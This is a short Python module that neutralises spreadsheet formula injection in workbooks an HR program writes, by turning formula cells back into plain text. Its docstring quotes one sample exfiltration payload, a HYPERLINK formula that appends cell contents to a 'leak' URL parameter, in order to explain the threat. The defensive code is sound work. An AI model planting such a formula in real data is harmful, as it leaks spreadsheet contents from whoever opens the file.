"""Cells of the workbooks HR opens: text stays text, never a formula.

openpyxl stores any text that starts with `=` as a formula, so a teacher or school name such as
`=HYPERLINK("http://…?leak="&A1, …)` would run in the reader's Excel (formula injection). Every
workbook the program writes passes its sheets through `as_text`.
"""

from __future__ import annotations

from openpyxl.worksheet.worksheet import Worksheet


def as_text(sheet: Worksheet) -> None:
    """Store every cell openpyxl took for a formula as the text it is."""
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
